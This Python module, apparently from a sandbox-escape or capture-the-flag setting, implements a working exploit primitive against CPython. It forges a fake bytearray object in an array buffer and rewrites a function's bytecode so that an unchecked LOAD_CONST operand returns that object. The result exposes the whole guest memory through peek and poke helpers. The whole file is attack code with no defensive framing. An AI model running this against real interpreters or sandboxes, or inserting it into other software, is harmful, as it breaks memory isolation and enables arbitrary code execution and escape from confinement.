"""Arbitrary reads and writes of the guest's memory, from Python alone: what an attacker has who broke everything else.

CPython does not check the operand of LOAD_CONST. An operand that points at a pointer of ours yields an object of our making:
a bytearray over the whole memory.
"""
import array

_fake = array.array('I', [0] * 16)
_at = _fake.buffer_info()[0]
_fake[0] = _at + 8
# refcount (immortal), type, size, alloc, bytes, start, exports
for _i, _word in enumerate([0x5fffffff, id(bytearray), 0x7fffffff, 0x7fffffff, 0, 0, 0]):
    _fake[2 + _i] = _word


def _template():
    return None


_consts = (None, None)
_distance = ((_at - (id(_consts) + 16)) >> 2) & 0xffffffff
_resume, _load, _return, _extended = 128, 82, 35, 69


def _opcodes():
    import opcode
    return (opcode.opmap[name] for name in ('RESUME', 'LOAD_CONST', 'RETURN_VALUE', 'EXTENDED_ARG'))


_resume, _load, _return, _extended = _opcodes()
_code = bytes([_resume, 0, _extended, _distance >> 24, _extended, _distance >> 16 & 255, _extended, _distance >> 8 & 255,
               _load, _distance & 255, _return, 0])
_template.__code__ = _template.__code__.replace(co_code=_code, co_consts=_consts)
memory = _template()


def peek(address):
    return int.from_bytes(memory[address:address + 4], 'little')


def poke(address, word):
    for i in range(4):
        memory[address + i] = word >> 8 * i & 255
